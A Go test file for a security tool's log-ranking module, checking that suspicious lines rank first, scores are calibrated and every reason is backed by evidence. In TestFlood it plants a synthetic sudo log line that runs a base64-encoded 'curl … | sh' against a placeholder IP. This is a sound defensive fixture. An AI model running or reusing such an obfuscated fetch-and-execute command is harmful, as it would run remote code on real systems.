package ranklogs_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/casemate-ai/casemate"
	"github.com/casemate-ai/casemate/internal/engine/scripted"
	"github.com/casemate-ai/casemate/internal/security/casefile"
	"github.com/casemate-ai/casemate/internal/security/page"
	"github.com/casemate-ai/casemate/internal/security/pipeline"
	"github.com/casemate-ai/casemate/internal/security/ranklogs"
)

const examples = "../../../examples/"

func rank(t testing.TB, in ranklogs.Input) ranklogs.Output {
	t.Helper()
	out, err := ranked(t, in)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func ranked(t testing.TB, in ranklogs.Input) (ranklogs.Output, error) {
	t.Helper()
	run, err := pipeline.Start(pipeline.Options{Workflow: "rank-logs"})
	if err != nil {
		t.Fatal(err)
	}
	return ranklogs.Run(context.Background(), run, in)
}

func write(t testing.TB, name, text string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestCases(t *testing.T) {
	cases, err := casefile.Load(os.DirFS("."), "cases/*.txtar")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range cases {
		t.Run(c.Name, func(t *testing.T) {
			paths, err := c.Unpack(t.TempDir())
			if err != nil {
				t.Fatal(err)
			}
			run, err := pipeline.Start(c.Options("rank-logs"))
			if err != nil {
				t.Fatal(err)
			}
			out, err := ranklogs.Run(context.Background(), run, ranklogs.Input{Files: paths})
			for _, fault := range c.Check(out, err) {
				t.Error(fault)
			}
		})
	}
}

// TestExample holds the example to its story: the four lines of the intrusion come
// first, and every statement of every line is shown by its evidence.
func TestExample(t *testing.T) {
	for _, file := range []string{"ranklogs/fleet.log", "intrusion/linux-auth.log", "intrusion/web-access.log", "intrusion/cloudtrail.json", "intrusion/auditd.log"} {
		out := rank(t, ranklogs.Input{Files: []string{examples + file}, Top: 1000})
		for _, l := range out.Lines {
			if len(l.Reasons) == 0 {
				t.Errorf("%s: line %d has no reason", file, l.Line)
			}
			for _, s := range l.Reasons {
				if s.Support != casemate.Supported {
					t.Errorf("%s: line %d: %q is %s: %v", file, l.Line, s.Text, s.Support, s.Problems)
				}
			}
		}
		if out.Coverage.Records != out.Total || out.Total == 0 {
			t.Errorf("%s: coverage counts %d lines of %d", file, out.Coverage.Records, out.Total)
		}
	}
	out := rank(t, ranklogs.Input{Files: []string{examples + "ranklogs/fleet.log"}})
	got := map[int]bool{}
	for _, l := range out.Lines[:4] {
		got[l.Line] = true
	}
	if want := (map[int]bool{18: true, 21: true, 29: true, 36: true}); !cmp.Equal(got, want) {
		t.Errorf("the first four lines are %v, want %v", got, want)
	}
}

// TestSameBytes: the same input gives the same bytes, however it is packed.
func TestSameBytes(t *testing.T) {
	text, err := os.ReadFile(examples + "ranklogs/fleet.log")
	if err != nil {
		t.Fatal(err)
	}
	var packed bytes.Buffer
	z := gzip.NewWriter(&packed)
	z.Write(text)
	z.Close()
	lines := func(path string) string {
		out := rank(t, ranklogs.Input{Files: []string{path}})
		for i := range out.Lines {
			out.Lines[i].File = ""
		}
		b, err := json.Marshal(out.Lines)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	want := lines(write(t, "a.log", string(text)))
	for range 3 {
		if got := lines(write(t, "a.log", string(text))); got != want {
			t.Fatal("another run gave other bytes")
		}
	}
	if got := lines(write(t, "a.log.gz", packed.String())); got != want {
		t.Error("the packed file gave other bytes")
	}
}

// TestLabelsAreNotRead: a label in a record does not move its line.
func TestLabelsAreNotRead(t *testing.T) {
	record := func(label string) string {
		var b strings.Builder
		for i := range 30 {
			fmt.Fprintf(&b, `{"log_id":"x%d","statement":"worker %d done","label":"benign"}`+"\n", i, i)
		}
		fmt.Fprintf(&b, `{"log_id":"y","statement":"worker 99 done","label":%q}`+"\n", label)
		fmt.Fprintf(&b, `{"ts":"2026-01-01T00:00:00Z","host":"a","msg":"worker done","label":%q}`+"\n", label)
		return b.String()
	}
	score := func(label string) []float64 {
		var list []float64
		for _, l := range rank(t, ranklogs.Input{Files: []string{write(t, "l.jsonl", record(label))}}).Lines {
			if strings.Contains(l.Text, "label") || strings.Contains(l.Text, label) {
				t.Errorf("the label is in the text %q", l.Text)
			}
			list = append(list, l.Score)
		}
		return list
	}
	if diff := cmp.Diff(score("malicious"), score("something else entirely")); diff != "" {
		t.Errorf("a label moved scores:\n%s", diff)
	}
}

// TestRarityFindsTheOddLine: where nothing is known to be bad, the odd line is
// first.
func TestRarityFindsTheOddLine(t *testing.T) {
	var b strings.Builder
	for i := range 100 {
		fmt.Fprintf(&b, "10:%02d:%02d press %d stamped part %d of lot %d\n", i/60, i%60, i%3, i*7, i/10)
		if i == 60 {
			b.WriteString("10:01:00 press 2 opened its guard door by hand\n")
		}
	}
	out := rank(t, ranklogs.Input{Files: []string{write(t, "press.log", b.String())}})
	if out.Lines[0].Line != 62 {
		t.Errorf("the first line is %d: %q, want 62", out.Lines[0].Line, out.Lines[0].Text)
	}
	if out.Lines[0].Score >= 50 {
		t.Errorf("rarity alone gives %.1f: it shows no attack", out.Lines[0].Score)
	}
}

func TestFit(t *testing.T) {
	weights := filepath.Join(t.TempDir(), "w.json")
	in := ranklogs.Input{Files: []string{examples + "ranklogs/fleet.log"}, Fit: examples + "ranklogs/labelled.jsonl", SaveWeights: weights}
	fitted := rank(t, in)
	c := fitted.Calibration
	if !fitted.Calibrated || c == nil || c.Lines != 40 || c.Suspicious != 4 || c.Brier >= c.BrierBase || c.AUC < 0.9 || c.Note == "" {
		t.Errorf("calibration is %+v", c)
	}
	for i, l := range fitted.Lines {
		if l.P == nil || *l.P < 0 || *l.P > 1 {
			t.Fatalf("line %d has the probability %v", l.Line, l.P)
		}
		if i > 0 && *l.P > *fitted.Lines[i-1].P {
			t.Errorf("rank %d has a higher probability than the one before it", l.Rank)
		}
	}
	again := rank(t, ranklogs.Input{Files: in.Files, Weights: weights})
	if diff := cmp.Diff(fitted.Lines, again.Lines); diff != "" {
		t.Errorf("the kept weights give other lines:\n%s", diff)
	}
	plain := rank(t, ranklogs.Input{Files: in.Files})
	if plain.Calibrated || plain.Lines[0].P != nil {
		t.Error("a probability without labelled lines")
	}
}

func TestFaults(t *testing.T) {
	log := write(t, "a.log", "a line\n")
	for name, in := range map[string]ranklogs.Input{
		"no file":        {},
		"absent":         {Files: []string{filepath.Join(t.TempDir(), "none")}},
		"bad date":       {Files: []string{log}, AsOf: "yesterday"},
		"bad weights":    {Files: []string{log}, Weights: log},
		"unlabelled":     {Files: []string{log}, Fit: log},
		"absent rules":   {Files: []string{log}, Rules: []string{filepath.Join(t.TempDir(), "none")}},
		"absent weights": {Files: []string{log}, Weights: filepath.Join(t.TempDir(), "none")},
	} {
		run, err := pipeline.Start(pipeline.Options{Workflow: "rank-logs"})
		if err != nil {
			t.Fatal(err)
		}
		_, err = ranklogs.Run(context.Background(), run, in)
		var told *casemate.Error
		if !errors.As(err, &told) || told.Hint == "" {
			t.Errorf("%s: error %v, want one with a hint", name, err)
		}
	}
}

// TestLimits: an overlong line, empty input and bytes that are no text.
func TestLimits(t *testing.T) {
	out := rank(t, ranklogs.Input{Files: []string{write(t, "long.log", strings.Repeat("x", 200_000)+"\nshort\n\n \n")}})
	if out.Total != 2 || out.Coverage.FaultCount != 1 {
		t.Errorf("%d lines and %d faults, want 2 and 1", out.Total, out.Coverage.FaultCount)
	}
	var told *casemate.Error
	if _, err := ranked(t, ranklogs.Input{Files: []string{write(t, "empty.log", "")}}); !errors.As(err, &told) || told.Code != casemate.CodeInput {
		t.Errorf("an empty file: %v, want an error of the input", err)
	}
	out = rank(t, ranklogs.Input{Files: []string{write(t, "bad.log", "a \xff\xfe line\n")}})
	if out.Total != 1 || strings.Contains(out.Lines[0].Text, "\xff") {
		t.Errorf("lines %+v", out.Lines)
	}
	var b bytes.Buffer
	if err := page.WriteTerminal(&b, ranklogs.Page(out), page.TerminalOptions{}); err != nil {
		t.Fatal(err)
	}
}

func TestAUC(t *testing.T) {
	for _, c := range []struct {
		scores []float64
		labels []bool
		want   float64
	}{
		{[]float64{1, 2, 3, 4}, []bool{false, false, true, true}, 1},
		{[]float64{4, 3, 2, 1}, []bool{false, false, true, true}, 0},
		{[]float64{1, 1, 1, 1}, []bool{false, true, false, true}, 0.5},
		{[]float64{1, 2, 3, 4}, []bool{true, false, true, false}, 0.25},
	} {
		if got := ranklogs.AUC(c.scores, c.labels); got != c.want {
			t.Errorf("AUC(%v, %v) = %v, want %v", c.scores, c.labels, got, c.want)
		}
	}
	// Hanley and McNeil's own formula by hand: A=0.75, 10 and 10.
	low, high := ranklogs.Interval(0.75, 10, 10)
	if low > 0.55 || low < 0.50 || high < 0.95 || high > 1 {
		t.Errorf("interval %v to %v", low, high)
	}
}

// FuzzRun: whatever a log holds, it is ranked, and points are numbers.
func FuzzRun(f *testing.F) {
	f.Add([]byte("Jun  1 10:00:01 h sudo: a : COMMAND=/bin/sh\n{\"text\":\"x\",\"label\":\"y\"}\n"))
	f.Add([]byte("{\"a\":{\"b\":[1,2,{\"c\":null}]}}\n\x00\x01\n"))
	f.Add([]byte("0\x00"))
	f.Add([]byte("a=b c=d %41%zz \xff 198.51.100.1 - - [x] \"GET / HTTP/1.1\" 200\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) > 4096 {
			return
		}
		out, err := ranked(t, ranklogs.Input{Files: []string{write(t, "f.log", string(data))}, NoRules: true})
		var told *casemate.Error
		if errors.As(err, &told) && told.Code == casemate.CodeInput {
			return // no line in it
		}
		if err != nil {
			t.Fatal(err)
		}
		for _, l := range out.Lines {
			if !(l.Score >= 0 && l.Score <= 100) {
				t.Errorf("score %v of %q", l.Score, l.Text)
			}
		}
		if _, err := json.Marshal(out); err != nil {
			t.Error(err)
		}
	})
}

// TestBudget: three questions go to the calibration, and no line is read.
func TestBudget(t *testing.T) {
	run, err := pipeline.Start(pipeline.Options{Workflow: "rank-logs", Engine: scripted.New(), Budget: 3})
	if err != nil {
		t.Fatal(err)
	}
	out, err := ranklogs.Run(context.Background(), run, ranklogs.Input{Files: []string{write(t, "a.log", "one line\nanother line\n")}})
	if err != nil {
		t.Fatal(err)
	}
	if notes := strings.Join(out.Provenance.Notes, " "); out.Model != nil || !strings.Contains(notes, "the model read no line") {
		t.Errorf("model %+v, notes %q", out.Model, notes)
	}
}

// TestCatalogueIsGrounded: what the catalogue says passes verification, its
// technique ids exist, and no two entries say the same.
func TestCatalogueIsGrounded(t *testing.T) {
	run, err := pipeline.Start(pipeline.Options{Workflow: "rank-logs"})
	if err != nil {
		t.Fatal(err)
	}
	list, evidence := ranklogs.CatalogueStatements()
	seen := map[string]bool{}
	for _, s := range run.Verify(list, evidence) {
		if s.Support != casemate.Supported {
			t.Errorf("%q: %v", s.Text, s.Problems)
		}
		if seen[s.Text] {
			t.Errorf("%q is there twice", s.Text)
		}
		seen[s.Text] = true
	}
	if len(seen) < 70 {
		t.Errorf("%d statements", len(seen))
	}
}

// TestFlood: a flood of lines that all show a sign is not taken apart line by
// line, and does not hide the one that is worse. What was not taken apart says so,
// and claims nothing of its own that only other lines show.
func TestFlood(t *testing.T) {
	var b strings.Builder
	const n = 6000
	for i := range n {
		if i == n-5 { // at the end, when the bound for what comes first is long spent
			b.WriteString(`Mar  4 11:59:00 web3 sudo:   user7 : TTY=pts/0 ; PWD=/home/user7 ; USER=root ; COMMAND=/bin/bash -c "echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC45L3ggfCBzaA== | base64 -d | sh"` + "\n")
			continue
		}
		fmt.Fprintf(&b, "Mar  4 %02d:%02d:%02d web%d sudo:   user%d : TTY=pts/0 ; PWD=/home/user%d ; USER=root ; COMMAND=/usr/bin/passwd user%d\n", 9+i/3600, i/60%60, i%60, i%9, i%40, i%40, i%977)
	}
	out := rank(t, ranklogs.Input{Files: []string{write(t, "flood.log", b.String())}, Top: n})
	if out.Lines[0].Line != n-4 {
		t.Errorf("the first line is %d: %q, want %d", out.Lines[0].Line, out.Lines[0].Text, n-4)
	}
	if why := out.Coverage.Parts[0].Why; !strings.Contains(why, "4,000 taken apart one by one") {
		t.Errorf("the coverage says %q", why)
	}
	for i, l := range out.Lines {
		for _, s := range l.Reasons {
			if s.Support != casemate.Supported {
				t.Fatalf("rank %d: %q is %s: %v", i+1, s.Text, s.Support, s.Problems)
			}
		}
	}
	borrowed := 0
	for _, l := range out.Lines {
		for _, s := range l.Reasons {
			if strings.HasPrefix(s.Text, "It was not taken apart itself") {
				borrowed++
			}
		}
	}
	if borrowed == 0 || borrowed > n-4000 {
		t.Errorf("%d lines say that they were not taken apart, want 1 to %d", borrowed, n-4000)
	}
}
